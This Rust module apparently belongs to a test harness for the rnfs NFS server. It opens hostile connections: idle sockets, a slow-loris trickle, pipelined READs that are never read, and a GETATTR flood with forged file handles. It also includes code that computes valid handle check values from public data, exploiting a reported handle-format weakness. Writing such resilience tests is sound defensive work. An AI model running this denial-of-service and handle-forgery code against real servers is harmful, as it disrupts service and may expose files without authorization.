//! The four kinds of hostile connection, each a loop bounded by the stop signal.
//!
//! - **idle**: connects and sends nothing.
//! - **loris** (slow-loris): sends the mark of a 1 MiB record, then its body at a trickle
//!   (`loris_bps` bytes a second), stopping one byte short: the record never completes.
//! - **unread**: with a small receive buffer, pipelines `unread_calls` READs of 1 MiB and
//!   never reads a reply.
//! - **forge**: GETATTRs with forged handles, one after the other as fast as the server
//!   answers. Half are a real handle with one bit flipped; the other half carry a made-up
//!   file key. When the server's handles turn out to have a check value computed from
//!   public data only (rnfs's format 1, issue 12 finding 4: export id, export path and root
//!   key, all in the MNT reply), the made-up keys get a valid check value, as an attacker
//!   would compute it; otherwise they get random bytes after the real handle's first four.
//!
//! Connections that the server closes connect again after a pause (an attacker persists);
//! an unread connection cannot tell once its calls are sent (it never reads), and stays.
use crate::wire;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::{watch, Semaphore};

/// What kind of hostile connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Connects and sends nothing.
    Idle,
    /// Never completes a 1 MiB record.
    Loris,
    /// Never reads the replies of its READs.
    Unread,
    /// Floods GETATTRs with forged handles.
    Forge,
}

impl Kind {
    /// The name used in options and output.
    pub fn name(self) -> &'static str {
        match self {
            Kind::Idle => "idle",
            Kind::Loris => "loris",
            Kind::Unread => "unread",
            Kind::Forge => "forge",
        }
    }
}

/// Counters of one group of hostile connections.
#[derive(Debug, Default)]
pub struct Counters {
    /// Connections made (first ones and reconnections).
    pub connects: AtomicU64,
    /// Connection attempts that failed or timed out.
    pub connect_failed: AtomicU64,
    /// Times the server closed (or reset) one of the connections.
    pub closed_by_server: AtomicU64,
    /// Tasks that have made their first connection attempt (for the ramp).
    pub started: AtomicU64,
    /// Calls sent.
    pub calls: AtomicU64,
    /// Replies received.
    pub replies: AtomicU64,
    /// Body bytes sent (loris).
    pub bytes: AtomicU64,
    /// Forge replies by NFS status: OK, BADHANDLE, STALE, anything else.
    pub ok: AtomicU64,
    /// See `ok`.
    pub badhandle: AtomicU64,
    /// See `ok`.
    pub stale: AtomicU64,
    /// See `ok`.
    pub other: AtomicU64,
}

/// What every hostile task shares.
pub struct Ctx {
    /// The server's NFS address.
    pub nfs: SocketAddr,
    /// Bounds the connection attempts in progress (a burst of 2,000 SYNs overflows the
    /// listen backlog and measures the backlog, not the server).
    pub connecting: Semaphore,
    /// Timeout of one connection attempt.
    pub connect_timeout: Duration,
    /// A handle of the file the unread READs read (1 MiB each).
    pub big_fh: Vec<u8>,
    /// How forged handles are made.
    pub forger: Forger,
    /// Loris: body bytes per second per connection.
    pub loris_bps: u64,
    /// Unread: READs pipelined per connection.
    pub unread_calls: u32,
}

/// Pause before connecting again after the server closed a connection.
const RECONNECT_PAUSE: Duration = Duration::from_millis(200);
/// The record a loris connection announces.
const LORIS_RECORD: u32 = 1 << 20;
/// Loris sends its body in pieces of this size.
const LORIS_CHUNK: u64 = 4096;

/// Runs one hostile connection of `kind` until `stop` turns true.
pub async fn run(
    kind: Kind,
    id: u64,
    x: Arc<Ctx>,
    c: Arc<Counters>,
    mut stop: watch::Receiver<bool>,
) {
    let mut first = true;
    loop {
        if *stop.borrow() {
            return;
        }
        let s = tokio::select! {
            s = open(&x, kind, &c) => s,
            _ = stop.wait_for(|v| *v) => return,
        };
        if first {
            c.started.fetch_add(1, Relaxed);
            first = false;
        }
        let Some(s) = s else {
            pause(&mut stop).await;
            continue;
        };
        let closed = tokio::select! {
            closed = behave(kind, id, s, &x, &c) => closed,
            _ = stop.wait_for(|v| *v) => return,
        };
        if closed {
            c.closed_by_server.fetch_add(1, Relaxed);
        }
        pause(&mut stop).await;
    }
}

async fn pause(stop: &mut watch::Receiver<bool>) {
    tokio::select! {
        _ = tokio::time::sleep(RECONNECT_PAUSE) => {}
        _ = stop.wait_for(|v| *v) => {}
    }
}

async fn open(x: &Ctx, kind: Kind, c: &Counters) -> Option<TcpStream> {
    let _permit = x.connecting.acquire().await.ok()?;
    // a small receive buffer keeps the unread replies in the server, not in our kernel
    let rcvbuf = (kind == Kind::Unread).then_some(16 * 1024);
    match wire::connect(x.nfs, x.connect_timeout, rcvbuf).await {
        Ok(s) => {
            c.connects.fetch_add(1, Relaxed);
            Some(s)
        }
        Err(_) => {
            c.connect_failed.fetch_add(1, Relaxed);
            None
        }
    }
}

/// Behaves as `kind` on one connection until the server closes it (then true). An unread
/// connection returns only if the server closed it before it sent its calls; after that
/// it cannot tell, and holds on until the stop signal.
async fn behave(kind: Kind, id: u64, mut s: TcpStream, x: &Ctx, c: &Counters) -> bool {
    match kind {
        Kind::Idle => wait_closed(&mut s).await,
        Kind::Loris => loris(&mut s, x, c).await,
        Kind::Unread => {
            let mut buf = Vec::new();
            for i in 0..x.unread_calls {
                let xid = (id as u32).wrapping_mul(0x1_0000).wrapping_add(i);
                let off = u64::from(i) << 20;
                buf.extend(wire::call_record(
                    xid,
                    wire::NFS_PROG,
                    wire::READ,
                    wire::read_args(&x.big_fh, off, 1 << 20),
                ));
            }
            if s.write_all(&buf).await.is_err() {
                return true;
            }
            c.calls.fetch_add(u64::from(x.unread_calls), Relaxed);
            // hold the connection, never read: the stop signal ends this
            std::future::pending::<bool>().await
        }
        Kind::Forge => forge(id, &mut s, x, c).await,
    }
}

/// Waits until the server closes the connection (reading whatever it might send).
async fn wait_closed(s: &mut TcpStream) -> bool {
    let mut buf = [0u8; 512];
    loop {
        match s.read(&mut buf).await {
            Ok(0) | Err(_) => return true,
            Ok(_) => {}
        }
    }
}

async fn loris(s: &mut TcpStream, x: &Ctx, c: &Counters) -> bool {
    let (mut rd, mut wr) = s.split();
    let trickle = async {
        if wr
            .write_all(&(0x8000_0000 | LORIS_RECORD).to_be_bytes())
            .await
            .is_err()
        {
            return;
        }
        let zeros = [0u8; LORIS_CHUNK as usize];
        let every = Duration::from_secs_f64(LORIS_CHUNK as f64 / x.loris_bps.max(1) as f64);
        let mut tick = tokio::time::interval(every);
        let mut left = u64::from(LORIS_RECORD) - 1; // one byte short, always
        while left > 0 {
            tick.tick().await;
            let n = left.min(LORIS_CHUNK);
            if wr.write_all(&zeros[..n as usize]).await.is_err() {
                return;
            }
            c.bytes.fetch_add(n, Relaxed);
            left -= n;
        }
        std::future::pending::<()>().await // hold it, incomplete
    };
    let mut buf = [0u8; 512];
    let closed = async {
        loop {
            match rd.read(&mut buf).await {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            }
        }
    };
    tokio::select! {
        _ = trickle => {}
        _ = closed => {}
    }
    true
}

async fn forge(id: u64, s: &mut TcpStream, x: &Ctx, c: &Counters) -> bool {
    let mut n = id << 32;
    loop {
        n += 1;
        let fh = x.forger.forge(n);
        let rec = wire::call_record(n as u32, wire::NFS_PROG, wire::GETATTR, |w| w.opaque(&fh));
        if s.write_all(&rec).await.is_err() {
            return true;
        }
        c.calls.fetch_add(1, Relaxed);
        let Ok(reply) = wire::read_record(s).await else {
            return true;
        };
        c.replies.fetch_add(1, Relaxed);
        // reply header: xid, REPLY, MSG_ACCEPTED, verf (flavor, len 0), SUCCESS, status
        let st = reply
            .get(24..28)
            .map(|b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]));
        let which = match st {
            Some(0) => &c.ok,
            Some(wire::BADHANDLE) => &c.badhandle,
            Some(wire::STALE) => &c.stale,
            _ => &c.other,
        };
        which.fetch_add(1, Relaxed);
    }
}

/// How forged handles are made (see the module doc).
#[derive(Debug, Clone)]
pub struct Forger {
    real: Vec<u8>,
    public: Option<PublicCheck>,
}

#[derive(Debug, Clone)]
struct PublicCheck {
    head: [u8; 4],
    dev: [u8; 8],
    secret: u64,
}

impl Forger {
    /// Forges variants of `real` (a handle of the export mounted as `export`, here the
    /// root handle, which carries the root key).
    pub fn new(real: Vec<u8>, export: &str) -> Self {
        let public = PublicCheck::calibrate(&real, export);
        Self { real, public }
    }

    /// How the made-up keys get their check value: "public-check" or "random".
    pub fn mode(&self) -> &'static str {
        if self.public.is_some() {
            "public-check"
        } else {
            "random"
        }
    }

    /// The `n`th forged handle.
    pub fn forge(&self, n: u64) -> Vec<u8> {
        let r = crate::mix(n);
        let mut h = self.real.clone();
        if n.is_multiple_of(2) {
            let bit = (r % (h.len() as u64 * 8)) as usize;
            h[bit / 8] ^= 1 << (bit % 8);
            return h;
        }
        match &self.public {
            Some(p) => p.forge(r),
            None => {
                for (i, b) in h.iter_mut().enumerate().skip(4) {
                    *b = (crate::mix(r ^ i as u64) & 0xff) as u8;
                }
                h
            }
        }
    }
}

impl PublicCheck {
    /// rnfs handle format 1: 'R', 1, export id (2 bytes), key = dev (8), ino (8), gen (4),
    /// check (4). Some only if the check value of `root` is reproduced from public data.
    fn calibrate(root: &[u8], export: &str) -> Option<Self> {
        if root.len() != 28 || root[0] != b'R' || root[1] != 1 {
            return None;
        }
        let id = u16::from_be_bytes([root[2], root[3]]);
        let mut secret = 0x5bd1_e995_u64 ^ u64::from(id);
        for &b in export.as_bytes().iter().chain(&root[4..24]) {
            secret = (secret ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01b3);
        }
        if check_v1(secret, &root[..24]) != root[24..28] {
            return None;
        }
        Some(Self {
            head: [root[0], root[1], root[2], root[3]],
            dev: root[4..12].try_into().ok()?,
            secret,
        })
    }

    /// A handle of a made-up inode on the export's device, with a valid check value.
    fn forge(&self, r: u64) -> Vec<u8> {
        let mut h = Vec::with_capacity(28);
        h.extend_from_slice(&self.head);
        h.extend_from_slice(&self.dev);
        h.extend_from_slice(&(r >> 8).to_be_bytes()); // ino
        h.extend_from_slice(&(r as u32).to_be_bytes()); // generation
        let c = check_v1(self.secret, &h);
        h.extend_from_slice(&c);
        h
    }
}

/// The check value of rnfs handle format 1 (its `handle.rs` at the time of issue 12).
fn check_v1(secret: u64, bytes: &[u8]) -> [u8; 4] {
    let mut h = secret ^ 0x9e37_79b9_7f4a_7c15;
    for &b in bytes {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
        h ^= h >> 31;
    }
    ((h ^ (h >> 32)) as u32).to_be_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_foreign_handle_gets_random_keys_and_keeps_its_head() {
        let real: Vec<u8> = (0..32).collect();
        let f = Forger::new(real.clone(), "/export");
        assert_eq!(f.mode(), "random");
        let flipped = f.forge(2);
        assert_eq!(
            flipped
                .iter()
                .zip(&real)
                .map(|(a, b)| (a ^ b).count_ones())
                .sum::<u32>(),
            1
        );
        let made_up = f.forge(3);
        assert_eq!(made_up[..4], real[..4]);
        assert_ne!(made_up, real);
    }

    #[test]
    fn a_format_1_handle_is_recognised_and_its_forgeries_verify() {
        // a root handle as rnfs format 1 makes it, check value from public data
        let mut root = vec![b'R', 1, 0, 1];
        root.extend_from_slice(&[7u8; 20]);
        let mut secret = 0x5bd1_e995_u64 ^ 1;
        for &b in b"/".iter().chain(&[7u8; 20]) {
            secret = (secret ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01b3);
        }
        let c = check_v1(secret, &root);
        root.extend_from_slice(&c);
        let f = Forger::new(root.clone(), "/");
        assert_eq!(f.mode(), "public-check");
        let h = f.forge(5);
        assert_eq!(h.len(), 28);
        assert_eq!(check_v1(secret, &h[..24]), h[24..28]);
        // a different export path: the check does not reproduce, no public forging
        assert_eq!(Forger::new(root, "/other").mode(), "random");
    }
}
